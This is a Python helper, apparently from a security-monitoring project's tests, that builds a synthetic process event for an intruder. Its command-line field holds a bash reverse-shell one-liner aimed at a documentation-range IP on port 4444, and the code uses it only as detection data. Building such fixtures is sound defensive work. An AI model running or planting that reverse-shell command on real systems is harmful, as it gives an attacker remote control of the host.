"""An attack of one event that is an incident at once: a shell that speaks to outside, by somebody new each time."""

import time

import pyarrow as pa

from ringfence.estate import ids
from ringfence.watch.batch import of_events
from ringfence.wire.ocsf import classes
from ringfence.wire.ocsf.event import Event
from ringfence.wire.ocsf.logsources import USUAL


def attack(host: str, number: int) -> tuple[str, pa.RecordBatch]:
    """(the entity that its incident names, the event): a containable kind, so it need not wait for company."""
    user = f"intruder{number:05}"
    said = {
        "process.cmd_line": f"bash -i >& /dev/tcp/198.51.100.{number % 250 + 1}/4444 0>&1",
        "process.name": "bash",
        "process.file.path": "/usr/bin/bash",
        "process.user.name": user,
        "actor.process.name": "python3",
    }
    now = time.time_ns() // 1000
    one = Event(classes.PROCESS, 1, now, host, USUAL[classes.PROCESS], said, f"host:{host}/processes")
    return ids.identity(user), of_events([one]).record
